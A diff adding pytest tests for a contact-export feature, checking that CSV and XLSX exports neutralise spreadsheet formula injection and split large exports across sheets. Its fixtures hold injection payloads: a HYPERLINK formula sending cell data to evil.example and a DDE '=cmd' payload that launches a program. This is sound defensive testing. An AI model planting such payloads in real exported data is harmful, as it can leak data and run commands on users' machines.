@@ -88,3 +88,98 @@ def test_the_export_runs_the_same_queries_whatever_the_size(
 
 def test_a_user_without_access_cannot_export(outsider_client):
     assert outsider_client.get(EXPORT_URL).status_code == 403
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
+DDE = "=cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def formula_contacts():
+    """Names and numbers a spreadsheet would take for formulas."""
+    return [
+        ContactFactory(name=HYPERLINK, phone="+46 70 123 45 67"),
+        ContactFactory(name=DDE, phone="-"),
+        ContactFactory(name="@SUM(A1:A9)", city="'quoted'", mobile="-12 34"),
+    ]
+
+
+def _imported_again(exported: bytes, file_name: str) -> list[dict]:
+    headers, rows = read_table(
+        SimpleUploadedFile(file_name, exported), file_name=file_name
+    )
+    result = check_rows(headers, rows)
+    assert result.error_count == 0, result.errors
+    return result.rows
+
+
+def test_the_xlsx_export_writes_formula_like_names_as_text(
+    marketing_client, formula_contacts
+):
+    response = marketing_client.get(EXPORT_URL, {"format": "xlsx"})
+
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    names = [row[2] for row in sheet.iter_rows(min_row=2)]
+    assert {cell.data_type for cell in names} == {"s"}
+    assert {cell.value for cell in names} == {
+        contact.name for contact in formula_contacts
+    }
+
+
+def test_the_csv_export_guards_formula_like_values_and_imports_them_unchanged(
+    marketing_client, formula_contacts
+):
+    exported = b"".join(marketing_client.get(EXPORT_URL).streaming_content)
+
+    rows = _csv_rows_of(exported)
+    assert {row["name"] for row in rows} == {f"'{c.name}" for c in formula_contacts}
+    assert "'+46 70 123 45 67" in {row["phone"] for row in rows}
+    imported = _imported_again(exported, "contacts.csv")
+    fields = ["name", "phone", "mobile", "city"]
+    assert sorted(tuple(row[name] for name in fields) for row in imported) == sorted(
+        tuple(getattr(contact, name) for name in fields) for contact in formula_contacts
+    )
+
+
+def test_the_xlsx_export_imports_unchanged(marketing_client, formula_contacts):
+    response = marketing_client.get(EXPORT_URL, {"format": "xlsx"})
+
+    imported = _imported_again(b"".join(response.streaming_content), "contacts.xlsx")
+    fields = ["name", "phone", "mobile", "city"]
+    assert sorted(tuple(row[name] for name in fields) for row in imported) == sorted(
+        tuple(getattr(contact, name) for name in fields) for contact in formula_contacts
+    )
+
+
+def test_the_xlsx_export_goes_on_to_a_second_sheet_past_a_sheets_rows(
+    marketing_client, monkeypatch
+):
+    monkeypatch.setattr("core.exports.XLSX_MAX_ROWS", 3)
+    ContactFactory.create_batch(3)
+
+    response = marketing_client.get(EXPORT_URL, {"format": "xlsx", "sort": "number"})
+
+    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    assert [sheet.max_row for sheet in workbook.worksheets] == [3, 2]
+    assert workbook.worksheets[1]["A1"].value == "number"
+    numbers = [
+        row[0]
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows(min_row=2, values_only=True)
+    ]
+    assert numbers == sorted(Contact.objects.values_list("number", flat=True))
+
+
+def test_a_control_character_in_a_name_does_not_break_the_xlsx_export(
+    marketing_client,
+):
+    ContactFactory(name="Bell\x07 Ltd")
+
+    response = marketing_client.get(EXPORT_URL, {"format": "xlsx"})
+
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    assert sheet["C2"].value == "Bell Ltd"
+
+
+def _csv_rows_of(exported: bytes) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"))))
